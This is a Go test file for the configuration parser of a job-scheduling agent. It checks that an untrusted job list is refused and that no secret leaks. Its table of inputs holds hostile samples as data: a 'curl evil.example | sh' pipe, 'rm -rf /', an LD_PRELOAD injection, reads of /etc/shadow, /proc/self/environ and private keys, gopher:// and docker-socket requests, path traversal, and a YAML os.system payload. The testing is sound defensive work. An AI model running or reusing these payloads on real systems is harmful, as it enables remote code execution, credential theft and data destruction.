package config_test

import (
	"errors"
	"fmt"
	"strings"
	"testing"

	"github.com/solotick/solotick/config"
)

// TestMaliciousLists is what somebody who can write the list of jobs may try. The
// agent's own file allows nothing, so none of it is taken; nor is any other job of
// such a list.
func TestMaliciousLists(t *testing.T) {
	const secret = "s3cr3t-0f-th1s-machine"
	t.Setenv("CONFIG_TEST_SECRET", secret)
	t.Setenv("VCAP_SERVICES", `{"x": [{"name": "db", "credentials": {"password": "`+secret+`"}}]}`)
	c := own(t, "jobs_from: { url: /tmp/x, allow: { env: [HARMLESS], files: [/dev/null] } }\njobs: { mine: { every: 60s, exec: [x] } }\n")
	job := func(lines string) string {
		return "jobs: { good: { every: 60s, steps: [ { if: 'true', http: 'https://a.example/' } ] }, a: { every: 60s, " + lines + " } }"
	}
	step := func(lines string) string { return job("steps: [ { " + lines + " } ]") }
	web := func(lines string) string { return step("http: { url: 'https://a.example/', " + lines + " }") }
	for text, want := range map[string]string{
		// Commands.
		job("exec: [sh, -c, 'curl evil.example | sh']"):                "may not run commands",
		job("exec: 'rm -rf /', shell: true"):                           "may not run commands",
		step("exec: [id]"):                                             "may not run commands",
		step("exec: 'id; id', shell: true"):                            "may not run commands",
		"defaults: { every: 60s, exec: [id] }\njobs: { a: {} }":        "may not run commands",
		job("exec: [x], dir: /etc, env: { LD_PRELOAD: /tmp/evil.so }"): "may not run commands",
		step("if: 'exec(\"id\")', http: 'https://a.example/'"):         "unknown",
		step("if: 'env.HOME != \"\"', http: 'https://a.example/'"):     "unknown",
		step("http: 'https://a.example/{{ file(\"/etc/shadow\") }}'"):  "unknown",
		// What the machine knows.
		web("headers: { X: '${env:CONFIG_TEST_SECRET}' }"):                    "may not have the environment variable CONFIG_TEST_SECRET",
		web("headers: { X: '${env:CONFIG_TEST_SECRET:-x}' }"):                 "may not have the environment variable CONFIG_TEST_SECRET",
		web("headers: { X: '${env:HARMLESS${env:CONFIG_TEST_SECRET}}' }"):     "",
		web("json: [ '${file:/etc/shadow}' ]"):                                "may not have the file /etc/shadow",
		web("json: [ '${file:/dev/null/../../etc/shadow}' ]"):                 "may not have the file",
		web("body: '${file:/proc/self/environ}'"):                             "may not have the file /proc/self/environ",
		web("form: { a: '${vcap:db.password}' }"):                             "may not have the credentials of a service",
		step("http: 'https://a.example/${env:CONFIG_TEST_SECRET}'"):           "may not have the environment variable",
		web("tls: { ca: '${file:/etc/ssl/private/key.pem}' }"):                "may not have the file",
		"defaults: { every: '${file:/etc/hostname}' }\n" + job("timeout: 5s"): "may not have the file",
		// What belongs to the agent's own file.
		"agent: { listen: '0.0.0.0:80' }\n" + job("steps: []"):                            "agent",
		"dns: { provider: rfc2136, server: evil.example }\n" + job("steps: []"):           "dns",
		"notify: { ops: { ntfy: { topic: evil } } }\n" + job("steps: []"):                 "notify",
		"jobs_from: 'https://evil.example/'\n" + job("steps: []"):                         "jobs_from",
		"jobs_from: { url: /x, allow: { exec: true } }\n" + job("exec: [id]"):             "jobs_from",
		step("alert: 'https://evil.example/', if: 'true', text: x"):                       "under notify:",
		"jobs: { mine: { every: 1s, steps: [ { http: 'https://evil.example/' } ] } }":     "the agent's own file has a job of this name",
		job("record: canary.another.example., steps: [ { http: 'https://a.example/' } ]"): "not in the zone",
		// Ways to places that are not for it.
		web("proxy: true"):                          "may not use the agent's proxy",
		step("http: 'file:///etc/shadow'"):          "http",
		step("http: 'gopher://127.0.0.1:25/_HELO'"): "http",
		step("http: 'unix:///var/run/docker.sock'"): "http",
		// What others would have to read.
		"jobs: { \"a\\e]0;owned\\a\": { every: 60s, steps: [ { http: 'https://a.example/' } ] } }": "cannot be the name of a job",
		"jobs: { '../../etc/x': { every: 60s, steps: [ { http: 'https://a.example/' } ] } }":       "holds a dot",
		"jobs: &a { b: *a }":                              "",
		"jobs: !!python/object/apply:os.system [ 'id' ]":  "",
		"jobs: { a: { <<: { exec: [id] }, every: 60s } }": "",
		"\x00\x01\x02": "",
	} {
		if !strings.HasPrefix(text, "\x00") {
			text = "version: 1\n" + text
		}
		jobs, err := c.Parse("list", []byte(text))
		var all config.Diagnostics
		if !errors.As(err, &all) || len(jobs) > 0 {
			t.Errorf("%s\n\tis taken: %d jobs, %v", text, len(jobs), err)
			continue
		}
		said := ""
		for _, d := range all {
			said += d.Message + "\n"
		}
		if !strings.Contains(said, want) || strings.Contains(fmt.Sprintf("%v %+v", err, all), secret) {
			t.Errorf("%s\n\twant a mistake with %q, and no secret: %s", text, want, said)
		}
	}
	// The same list without what is wrong is taken: none of the above is refused for
	// another reason.
	if jobs, err := c.Parse("list", []byte("version: 1\n"+web("headers: { X: '${env:HARMLESS:-x}' }, json: [ '${file:/dev/null}' ]"))); err != nil || len(jobs) != 2 {
		t.Errorf("a harmless list: %d jobs, %v", len(jobs), err)
	}
}
